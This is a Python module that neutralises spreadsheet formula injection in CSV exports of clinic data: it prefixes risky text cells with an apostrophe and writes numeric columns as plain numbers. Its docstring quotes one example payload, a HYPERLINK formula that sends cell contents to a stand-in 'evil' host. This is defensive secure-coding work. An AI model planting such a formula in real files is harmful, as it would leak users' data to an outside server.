"""Cell values for CSV files that a spreadsheet will open: formula-safe text, plain numbers.

Why this matters (RELIABILITY.md row 22): Excel, LibreOffice and Google Sheets
treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also act on a leading TAB or CR. A client comment or a pseudonym such as
``=HYPERLINK("http://evil/?"&A1)`` would then run in a clinician's
spreadsheet and could send data elsewhere ("CSV injection"). A NUL byte
truncates the cell in several tools. Prefixing such text with one apostrophe
makes every spreadsheet show it as text; the original is recovered by removing
that one leading apostrophe (text that itself begins with an apostrophe gets
one added as well, so "remove the first apostrophe" is always right).

Only *text* columns are neutralised. Numeric columns are written by
:func:`number_cell` as plain numbers and never prefixed, so ``-3`` in a score
column stays the number -3 (a prefix there would turn data into text and break
every analysis). Quoting (commas, quotes, line breaks) is left to the ``csv``
module with RFC 4180 settings: see :data:`CSV_FORMAT`.
"""

from __future__ import annotations

import math
from decimal import Decimal
from datetime import date, datetime
from typing import Any

__all__ = ["CSV_FORMAT", "FORMULA_TRIGGERS", "TEXT_PREFIX", "neutralise_text", "number_cell", "text_cell"]

#: First characters that make a spreadsheet evaluate or mangle a cell.
FORMULA_TRIGGERS = frozenset({"=", "+", "-", "@", "\t", "\r", "\x00"})
TEXT_PREFIX = "'"

#: ``csv.writer`` keyword arguments: RFC 4180 (comma, double quotes doubled, CRLF line ends).
CSV_FORMAT: dict[str, Any] = {"delimiter": ",", "quotechar": '"', "doublequote": True, "lineterminator": "\r\n"}


def neutralise_text(text: str) -> str:
    """``text`` with one ``'`` in front when a spreadsheet would run or mangle it (see the module docstring).

    Text that already starts with ``'`` gets one too, so reading back is never
    ambiguous: a cell that starts with ``'`` always had exactly one added.
    """
    if text and (text[0] in FORMULA_TRIGGERS or text[0] == TEXT_PREFIX):
        return TEXT_PREFIX + text
    return text


def text_cell(value: Any) -> str:
    """A text column's cell: dates as ISO 8601, ids as text, None as empty, and formula triggers neutralised."""
    if type(value) is str:  # the common case first: millions of cells in a clinic export
        return neutralise_text(value)
    if value is None:
        return ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, bool):
        return "true" if value else "false"
    return neutralise_text(str(value))


def number_cell(value: float | int | bool | None) -> str:
    """A numeric column's cell: a plain decimal number (never prefixed), empty for None or not-a-number."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, int):
        return str(value)
    number = float(value)
    if not math.isfinite(number):
        return ""
    if number.is_integer() and abs(number) < 1e15:
        return str(int(number))
    text = repr(number)  # the shortest text that reads back as exactly this number
    if "e" in text:  # 1e-05: some spreadsheets read exponents as text in some locales; spell it out
        text = format(Decimal(text), "f")
    return text
